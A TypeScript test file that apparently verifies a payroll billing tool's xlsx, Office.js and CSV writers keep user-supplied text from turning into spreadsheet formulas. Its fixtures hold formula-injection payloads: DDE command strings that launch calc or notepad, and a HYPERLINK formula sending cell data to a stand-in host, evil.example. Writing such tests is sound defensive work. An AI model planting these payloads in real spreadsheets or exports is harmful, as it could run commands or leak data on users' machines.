/**
 * Guarantee 5 of the trust issue: no user-provided text ever becomes a formula.
 *
 * The real pipeline runs on exports whose employer names, employer numbers and file names
 * start with = + - @ TAB or CR (HYPERLINK, DDE, @SUM payloads): Loket dossier exports and a
 * signing export through the importers into the year's workbook (specification, invoice
 * check, re-billing and one sheet per employer), TAB- and CR-prefixed texts as typed exports
 * (the importers trim those as whitespace), and an Otherside report into its workbook.
 * Every plan cell holding such a text is then checked in every writer:
 *   - xlsx in memory (writeXlsxBuffer) and xlsx streaming (writeXlsxFile): read back through
 *     ExcelJS and as raw sheet XML, the cell is a string (shared or inline), never <f>;
 *   - Office.js writer on the recording fake: the cell holds the text as a value, not a
 *     formula, under the text format '@' set before the value was entered;
 *   - the re-billing CSV: such a field is prefixed with a single quote (OWASP), so no field
 *     starts with = + - @ TAB CR when a spreadsheet opens the file.
 */
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { summariseSigning, validateYearOptions } from '../../src/domain/billing/advances';
import { importDossierExport } from '../../src/domain/imports/loket-dossiers';
import { importSigningExport } from '../../src/domain/imports/loket-signing';
import type { DossierExport } from '../../src/domain/imports/types';
import { reconcileQwoater } from '../../src/domain/pipeline';
import { defaultSettings } from '../../src/domain/settings';
import { a1, cellsOf, looksLikeFormula, type WorkbookPlan } from '../../src/domain/spec/plan';
import { rebillCsvBytes, rebillCsvText } from '../../src/domain/spec/rebill-csv';
import { buildYearPlan, type YearWorkbook } from '../../src/domain/spec/year-workbook';
import { addReports, emptyHistory, importXpertReport, parseXpertSettings, runXpert } from '../../src/domain/xpert';
import { writePlanToExcel } from '../../src/office/writer';
import { writeXlsxFile } from '../../src/writers/xlsx-file-writer';
import { writeXlsxBuffer } from '../../src/writers/xlsx-writer';
import { dossierExport } from '../support/dossier-export';
import { FakeExcel, parseAddress } from '../support/fake-excel';
import { readWorkbookValues, readXlsxPart, type XlsxSource } from '../support/read-xlsx';

// ── Hostile inputs ───────────────────────────────────────────────────────────────────────

/** Payloads as they reach the engine; the CSV importers keep these exactly. */
const PAYLOADS = [
  '=HYPERLINK("https://evil.example/?d="&A1;"Klik hier")',
  "=cmd|' /C calc'!A0",
  '+1+2',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=1+1',
];
/** Employer numbers are text too (leading zeros); these start like formulas. */
const NUMBERS = ['=2+2', '+31', '-5', '@A1', '=HYPERLINK("x")', '-000106'];
/** Leading TAB and CR: the importers trim them, so these go in as typed exports. */
const CONTROL_PAYLOADS = ['\t=1+1', '\r=1+1', "\t=cmd|' /C calc'!A0", '\r@SUM(1+1)', '\t+1', '\r-1+1'];

const q = (s: string) => `"${s.replace(/"/g, '""')}"`;
const HEADER = 'Werkgeversnummer;Naam werkgever;Administratie;Werkgeversdossier;Aantalwerknemersdossier;Inactieve werknemersdossiers';

function dossierCsv(year: number, rows: { number: string; name: string; f: number; g: number }[]): string {
  return [
    'Dossiervorming Qwoater per werkgever',
    `Peildatum: 31-12-${year}`,
    q('=HYPERLINK("https://evil.example/";"Klik")'),
    HEADER,
    ...rows.map((r) => [q(r.number), q(r.name), q('=1+1'), '1', String(r.f), String(r.g)].join(';')),
  ].join('\r\n');
}

// A file's name, which cannot hold '/' or '\\': cells show a label up to its last one (the name, never the path).
const CURRENT_LABEL = '=HYPERLINK("evil.example?f=";"a")-31-12-2024.csv';
const PREVIOUS_LABEL = '@SUM(1+1)-31-12-2023.csv';
const SIGNING_LABEL = "-2+3+cmd|' /C calc'!A0-2024-Q1.csv";
const XPERT_LABEL = '+cmd|calc-2024-01.csv';

const settings = { ...defaultSettings(2), pricing: { kind: 'flat' as const, priceE4: 98_500 } };
const yearOptions = () => {
  const o = validateYearOptions({ signing: { mode: 'priced', priceE4: 5_000, unit: 'requests' }, counts: [], distribute: 'computed' });
  if (!o.ok) throw new Error(o.error.en);
  return o.value;
};

/** The year's workbook (with one sheet per employer and signing) for two dossier exports. */
function yearWorkbook(current: DossierExport, previous: DossierExport, signingText: string | null): YearWorkbook {
  const qwoater = { current, previous, settings };
  const rec = reconcileQwoater(qwoater);
  if (!rec.ok) throw new Error(`reconcile: ${rec.error.en}`);
  let signing = null;
  if (signingText) {
    const s = importSigningExport({ text: signingText }, { label: SIGNING_LABEL, fileName: SIGNING_LABEL });
    if (!s.ok) throw new Error(`signing: ${s.error.en}`);
    const summary = summariseSigning([s.value], rec.value.year, 'requests');
    if (!summary.ok) throw new Error(`signing summary: ${summary.error.en}`);
    signing = summary.value;
  }
  const built = buildYearPlan({
    rec: rec.value,
    qwoater,
    options: yearOptions(),
    invoices: [],
    signing,
    perEmployer: { confirmedMany: true },
    importWarnings: [...warningsOf(current), ...warningsOf(previous)],
    lang: 'nl',
  });
  if (!built.ok) throw new Error(`year plan: ${built.error.en}`);
  return built.value;
}
const importWarnings = new Map<DossierExport, ReturnType<typeof importDossierExport>['warnings']>();
const warningsOf = (e: DossierExport) => importWarnings.get(e) ?? [];

function importDossiers(text: string, label: string): DossierExport {
  const r = importDossierExport({ text }, { label, fileName: label });
  if (!r.ok) throw new Error(`import ${label}: ${r.error.en}`);
  importWarnings.set(r.value, r.warnings);
  return r.value;
}

/** Loket exports → the year's workbook, every text field hostile. */
function viaImporters(): { name: string; year: YearWorkbook; inputs: string[] } {
  const rows = PAYLOADS.map((name, i) => ({ number: NUMBERS[i]!, name, f: 10 + i, g: i }));
  const current = importDossiers(dossierCsv(2024, rows), CURRENT_LABEL);
  // Last year: the same numbers under other names (the sheet then says 'Vorig jaar: …'),
  // plus one employer gone this year, whose name only last year's file has.
  const prevRows = [...rows.map((r, i) => ({ ...r, name: PAYLOADS[(i + 1) % PAYLOADS.length]!, f: 8 + i, g: i })), { number: '@gone', name: '=GONE()', f: 3, g: 1 }];
  const previous = importDossiers(dossierCsv(2023, prevRows), PREVIOUS_LABEL);
  // The signing export also lists an employer Loket does not know, so its name reaches the sheets.
  const signingText = [
    'Ondertekenverzoeken per werkgever',
    'Periode: 01-01-2024 t/m 31-03-2024',
    'Werkgeversnummer;Naam werkgever;Aantal ondertekenverzoeken',
    ...rows.map((r, i) => [q(r.number), q(r.name), String(i + 1)].join(';')),
    [q('=SIGN()'), q("=cmd|' /C notepad'!A0"), '2'].join(';'),
  ].join('\r\n');
  const year = yearWorkbook(current, previous, signingText);
  return { name: 'Loket exports through the importers', year, inputs: [...PAYLOADS, ...NUMBERS, '=GONE()', '@gone', CURRENT_LABEL, PREVIOUS_LABEL] };
}

/** TAB and CR prefixes, which the importers would trim, as typed exports. */
function viaTypedExports(): { name: string; year: YearWorkbook; inputs: string[] } {
  const numbers = ['\t100', '\r200', '\t=300', '\r+400', '\t-500', '\r@600'];
  const current = dossierExport('\t=HYPERLINK("x")-31-12-2024.csv', '2024-12-31', CONTROL_PAYLOADS.map((n, i) => [numbers[i]!, n, 1, 10 + i, i]));
  const previous = dossierExport('\r=cmd-31-12-2023.csv', '2023-12-31', CONTROL_PAYLOADS.map((n, i) => [numbers[i]!, `${n} (vorig jaar)`, 1, 9 + i, i]));
  const year = yearWorkbook(current, previous, null);
  return { name: 'TAB and CR prefixes as typed exports', year, inputs: [...CONTROL_PAYLOADS, ...numbers] };
}

/** An Otherside report: codes, names and the file name hostile. */
function viaXpert(): { name: string; plan: WorkbookPlan; inputs: string[] } {
  const text = [
    'Factuurspecificatie Otherside at Work',
    'Periode: januari 2024',
    'Werkgevercode;Naam werkgever;Aantal medewerkers;Aantal SMS',
    ...PAYLOADS.map((name, i) => [q(NUMBERS[i]!), q(name), String(10 + i), String(i)].join(';')),
  ].join('\r\n');
  const report = importXpertReport({ text }, { label: XPERT_LABEL, fileName: XPERT_LABEL });
  if (!report.ok) throw new Error(`xpert import: ${report.error.en}`);
  const added = addReports(emptyHistory(), [report.value]);
  if (!added.ok || added.value.status !== 'updated') throw new Error('xpert history');
  const s = parseXpertSettings({ rateE4: 12_500, smsRateE4: 900, vatBasisPoints: 2_100, toleranceCents: 100 });
  if (!s.ok) throw new Error(s.error.en);
  const run = runXpert(added.value.history, s.value, 'nl', report.warnings);
  if (!run.ok) throw new Error(`xpert run: ${run.error.en}`);
  return { name: 'an Otherside report', plan: run.value.plan, inputs: [...PAYLOADS, ...NUMBERS, XPERT_LABEL] };
}

// ── Which cells must stay text ───────────────────────────────────────────────────────────

interface HostileCell {
  key: string;
  sheet: string;
  address: string;
  text: string;
}

/** Every text cell of the plan that a spreadsheet would otherwise read as a formula. */
function hostileCells(plan: WorkbookPlan): HostileCell[] {
  const out: HostileCell[] = [];
  for (const s of plan.sheets) {
    for (const { row, col, value } of cellsOf(s)) {
      if (typeof value === 'string' && looksLikeFormula(value)) out.push({ key: s.key, sheet: s.name, address: a1(row, col), text: value });
    }
  }
  return out;
}

// ── Reading an .xlsx back at the XML level ───────────────────────────────────────────────

const unescapeXml = (s: string) =>
  s
    .replace(/_x([0-9A-Fa-f]{4})_/g, (_, h: string) => String.fromCharCode(parseInt(h, 16)))
    .replace(/&(lt|gt|amp|quot|apos|#\d+|#x[0-9a-f]+);/gi, (_, e: string) => {
      const named: Record<string, string> = { lt: '<', gt: '>', amp: '&', quot: '"', apos: "'" };
      if (e[0] !== '#') return named[e.toLowerCase()]!;
      return String.fromCodePoint(e[1] === 'x' || e[1] === 'X' ? parseInt(e.slice(2), 16) : parseInt(e.slice(1), 10));
    });

/** Sheet name → its cells as raw XML ('A1' → '<c …>…</c>'), plus the shared strings. */
function rawSheets(src: XlsxSource): { cells: Map<string, Map<string, string>>; shared: string[] } {
  const workbook = readXlsxPart(src, 'xl/workbook.xml') ?? '';
  const rels = readXlsxPart(src, 'xl/_rels/workbook.xml.rels') ?? '';
  const targets = new Map([...rels.matchAll(/<Relationship\b[^>]*?Id="([^"]+)"[^>]*?Target="([^"]+)"/g)].map((m) => [m[1]!, m[2]!]));
  for (const m of rels.matchAll(/<Relationship\b[^>]*?Target="([^"]+)"[^>]*?Id="([^"]+)"/g)) targets.set(m[2]!, m[1]!);
  const sharedXml = readXlsxPart(src, 'xl/sharedStrings.xml') ?? '';
  const shared = [...sharedXml.matchAll(/<si>([\s\S]*?)<\/si>/g)].map((m) => unescapeXml([...m[1]!.matchAll(/<t[^>]*>([\s\S]*?)<\/t>/g)].map((t) => t[1]).join('')));
  const cells = new Map<string, Map<string, string>>();
  for (const m of workbook.matchAll(/<sheet\b[^>]*?name="([^"]*)"[^>]*?r:id="([^"]+)"/g)) {
    const target = targets.get(m[2]!);
    if (!target) continue;
    const xml = readXlsxPart(src, `xl/${target.replace(/^\/?xl\//, '')}`) ?? '';
    const map = new Map<string, string>();
    for (const c of xml.matchAll(/<c\b[^>]*?\br="([A-Z]+\d+)"[^>]*?(?:\/>|>[\s\S]*?<\/c>)/g)) map.set(c[1]!, c[0]);
    cells.set(unescapeXml(m[1]!), map);
  }
  return { cells, shared };
}

/** Problems with one cell in the raw XML: a formula, or a string other than the text. */
function rawProblem(xml: string | undefined, text: string, shared: string[]): string | null {
  if (!xml) return 'cell missing';
  if (/<f[\s>]/.test(xml)) return `holds a formula: ${xml.slice(0, 200)}`;
  const type = /\bt="([^"]+)"/.exec(xml)?.[1];
  if (type === 's') {
    const i = Number(/<v>(\d+)<\/v>/.exec(xml)?.[1]);
    return shared[i] === text ? null : `shared string ${JSON.stringify(shared[i])}, expected ${JSON.stringify(text)}`;
  }
  if (type === 'inlineStr') {
    const t = unescapeXml([...xml.matchAll(/<t[^>]*>([\s\S]*?)<\/t>/g)].map((m) => m[1]).join(''));
    return t === text ? null : `inline string ${JSON.stringify(t)}, expected ${JSON.stringify(text)}`;
  }
  return `type ${type ?? '(number)'}, not a string: ${xml.slice(0, 200)}`;
}

/**
 * XML turns a raw CR into LF when read (ExcelJS writes CR unescaped, not as _x000D_), so a
 * leading CR comes back as LF: still text, which is what this test is about.
 */
const asXmlReadsIt = (s: string) => s.replace(/\r\n?/g, '\n');

async function checkXlsx(src: XlsxSource, cells: HostileCell[]): Promise<string[]> {
  const problems: string[] = [];
  const values = await readWorkbookValues(src);
  const raw = rawSheets(src);
  for (const c of cells) {
    const where = `${c.sheet}!${c.address} ${JSON.stringify(c.text)}`;
    const text = asXmlReadsIt(c.text);
    const reading = values.get(c.sheet)?.get(c.address);
    if (!reading) problems.push(`${where}: not in the file (ExcelJS)`);
    else if (reading.formula !== undefined) problems.push(`${where}: ExcelJS reads a formula '${reading.formula}'`);
    else if (reading.value !== text) problems.push(`${where}: ExcelJS reads ${JSON.stringify(reading.value)}`);
    const p = rawProblem(raw.cells.get(c.sheet)?.get(c.address), text, raw.shared.map(asXmlReadsIt));
    if (p) problems.push(`${where}: sheet XML ${p}`);
  }
  return problems;
}

async function checkOffice(plan: WorkbookPlan, cells: HostileCell[]): Promise<string[]> {
  const fake = new FakeExcel();
  fake.addSheet('Blad1');
  const r = await writePlanToExcel(fake.context(), plan, { conflict: 'next-free-name', runId: 'inj' });
  if (!r.ok) return [`the Office writer failed: ${r.error.en}`];
  const problems: string[] = [];
  for (const c of cells) {
    const sheetName = r.value.sheetNames[c.key] ?? c.sheet;
    const where = `${sheetName}!${c.address} ${JSON.stringify(c.text)}`;
    const sheet = fake.findSheet(sheetName);
    if (!sheet) {
      problems.push(`${where}: no such sheet`);
      continue;
    }
    const b = parseAddress(c.address);
    const cell = sheet.cells.get(b.r0 * 16384 + b.c0);
    if (!cell) problems.push(`${where}: empty`);
    else if (cell.formula !== undefined) problems.push(`${where}: became the formula ${cell.formula}`);
    else if (cell.value !== c.text) problems.push(`${where}: holds ${JSON.stringify(cell.value)}`);
    const fmt = fake.numberFormatAt(sheet, b.r0, b.c0);
    if (fmt !== '@') problems.push(`${where}: number format '${fmt}', not the text format '@'`);
  }
  return problems;
}

// ── CSV ──────────────────────────────────────────────────────────────────────────────────

/** RFC 4180 split of one CSV text with the given separator; fields unquoted. */
function parseCsv(text: string, sep: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  let i = 0;
  while (i < text.length) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        field += '"';
        i += 2;
        continue;
      }
      if (ch === '"') quoted = false;
      else field += ch;
      i++;
      continue;
    }
    if (ch === '"' && field === '') quoted = true;
    else if (ch === sep) {
      row.push(field);
      field = '';
    } else if (ch === '\r' || ch === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      if (ch === '\r' && text[i + 1] === '\n') i++;
    } else field += ch;
    i++;
  }
  if (field !== '' || row.length) rows.push([...row, field]);
  return rows;
}

/** What a spreadsheet would run: = or @ first, TAB or CR first, or + / - before anything but a plain number. */
const runsAsFormula = (field: string): boolean => /^[=@\t\r]/.test(field) || (/^[+-]/.test(field) && !/^[+-]\d+([.,]\d+)?$/.test(field));

// ── The checks ───────────────────────────────────────────────────────────────────────────

let dir = '';
const figures = { xlsxMemory: 0, xlsxStreaming: 0, office: 0, csv: 0 };

beforeAll(() => {
  dir = mkdtempSync(join(tmpdir(), 'fc-injection-'));
});
afterAll(() => {
  rmSync(dir, { recursive: true, force: true });
  console.log(
    `injection: xlsx in-memory ${figures.xlsxMemory} cells, xlsx streaming ${figures.xlsxStreaming} cells, Office.js writer ${figures.office} cells, re-billing CSV ${figures.csv} fields checked`,
  );
});

const cases = () => {
  const a = viaImporters();
  const b = viaTypedExports();
  const x = viaXpert();
  return [
    { name: a.name, plan: a.year.plan, inputs: a.inputs },
    { name: b.name, plan: b.year.plan, inputs: b.inputs },
    { name: x.name, plan: x.plan, inputs: x.inputs },
  ];
};

describe.each(cases())('formula injection: $name', ({ plan, inputs }) => {
  const cells = hostileCells(plan);

  it('carries every hostile input into the workbook plan, as plain text', () => {
    // Without this, a pipeline that dropped the names would pass every writer check below.
    const texts = cells.map((c) => c.text);
    for (const input of inputs) {
      const carried = texts.some((t) => t === input || t.startsWith(input) || t.includes(input));
      expect(carried, `${JSON.stringify(input)} does not reach the plan as a text cell`).toBe(true);
    }
    expect(cells.length).toBeGreaterThanOrEqual(inputs.length);
    // The plan's own formulas are FormulaCells; a text cell is never one.
    for (const s of plan.sheets) for (const { value } of cellsOf(s)) if (typeof value === 'object' && value !== null) expect(typeof value.f).toBe('string');
  });

  it('xlsx in memory: every such cell is a string, never a formula', async () => {
    const bytes = await writeXlsxBuffer(plan);
    expect(await checkXlsx(bytes, cells)).toEqual([]);
    figures.xlsxMemory += cells.length;
  });

  it('xlsx streaming: every such cell is a string, never a formula', async () => {
    const path = join(dir, `${Math.random().toString(36).slice(2)}.xlsx`);
    await writeXlsxFile(plan, path);
    expect(await checkXlsx(path, cells)).toEqual([]);
    figures.xlsxStreaming += cells.length;
  });

  it("Office.js writer: every such cell is entered as text, under '@'", async () => {
    expect(await checkOffice(plan, cells)).toEqual([]);
    figures.office += cells.length;
  });
});

describe('the checks themselves', () => {
  // A check that cannot fail proves nothing: a real formula where text is expected must be caught.
  const plan: WorkbookPlan = {
    title: 'control',
    sheets: [
      {
        key: 'control',
        name: 'Controle',
        blocks: [{ row: 0, col: 0, cells: [['=1+1', { f: '1+1', r: 2 }]] }],
        styles: [],
        columnWidths: [],
        tables: [],
        names: [],
        highlights: [],
      },
    ],
  };
  const cells: HostileCell[] = [
    { key: 'control', sheet: 'Controle', address: 'A1', text: '=1+1' },
    { key: 'control', sheet: 'Controle', address: 'B1', text: '=1+1' },
  ];

  it('report a formula in each writer, and pass the text cell', async () => {
    const mem = await checkXlsx(await writeXlsxBuffer(plan), cells);
    expect(mem.some((p) => p.startsWith('Controle!B1') && p.includes('formula'))).toBe(true);
    expect(mem.some((p) => p.startsWith('Controle!A1'))).toBe(false);
    const path = join(dir, 'control.xlsx');
    await writeXlsxFile(plan, path);
    const streamed = await checkXlsx(path, cells);
    expect(streamed.some((p) => p.startsWith('Controle!B1') && p.includes('formula'))).toBe(true);
    const office = await checkOffice(plan, cells);
    expect(office.some((p) => p.includes('B1') && p.includes('formula'))).toBe(true);
    expect(office.some((p) => p.includes('A1'))).toBe(false);
    expect(['=1', '+A1', '-A1', '@x', '\t=1', '\r=1'].every(runsAsFormula)).toBe(true);
    expect(['-1,00', '+1', '12', "'=1", ' =1'].some(runsAsFormula)).toBe(false);
  });
});

describe('CSV injection in the re-billing export', () => {
  const all = [viaImporters(), viaTypedExports()];

  it.each(all.map((c) => [c.name, c] as const))('%s: every text field that could run is prefixed with a single quote', (_, c) => {
    const text = rebillCsvText(c.year.rebill, 'nl');
    // The bytes the CLI writes (`rebill --out`) are this text behind a UTF-8 BOM.
    const bytes = rebillCsvBytes(c.year.rebill, 'nl');
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(new TextDecoder().decode(bytes.subarray(3))).toBe(text);
    const rows = parseCsv(text, ';');
    const header = rows[0]!;
    expect(rows.length).toBe(c.year.rebill.shares.length + 1);
    let hostile = 0;
    rows.slice(1).forEach((fields, i) => {
      const share = c.year.rebill.shares[i]!;
      expect(fields.length, `row ${i + 2}`).toBe(header.length);
      // Number and name are the user's texts; each must come back as the text with one quote in front when it could run.
      for (const [field, original] of [[fields[0]!, share.number], [fields[1]!, share.name]] as const) {
        if (looksLikeFormula(original)) {
          hostile++;
          expect(field, `row ${i + 2}`).toBe(`'${original}`);
        } else expect(field).toBe(original);
      }
      for (const f of fields) expect(runsAsFormula(f), `row ${i + 2}: ${JSON.stringify(f)} would run as a formula`).toBe(false);
    });
    expect(hostile).toBeGreaterThanOrEqual(6);
    figures.csv += rows.length * header.length;
  });

  it('a field never starts a formula even when a spreadsheet splits on , or TAB (English-locale Excel, LibreOffice defaults)', () => {
    // A name like 'Bakker,=HYPERLINK(…)' holds no ';', so the ';'-CSV leaves it unquoted; Excel in
    // an English locale splits on ',' and the second half starts with '='. Quoting alone does
    // not help there (the quote is mid-field for a ','-splitter), so csvText also neutralises
    // a dangerous start after any separator.
    const rows = [{ number: '000101', name: 'Bakker,=HYPERLINK("https://evil.example/";"x")', f: 10, g: 1 }, { number: '000102', name: 'Smit\t=1+1', f: 5, g: 0 }];
    const current = importDossiers(dossierCsv(2024, rows), 'comma-31-12-2024.csv');
    const previous = importDossiers(dossierCsv(2023, rows.map((r) => ({ ...r, f: r.f - 1 }))), 'comma-31-12-2023.csv');
    const year = yearWorkbook(current, previous, null);
    const text = rebillCsvText(year.rebill, 'nl');
    const running: string[] = [];
    for (const sep of [',', '\t']) for (const fields of parseCsv(text, sep)) for (const f of fields) if (runsAsFormula(f)) running.push(`${JSON.stringify(sep)}: ${f}`);
    expect(running).toEqual([]);
    // The names are still there to read, only neutralised.
    expect(text).toContain(`Bakker,'=HYPERLINK`);
  });
});
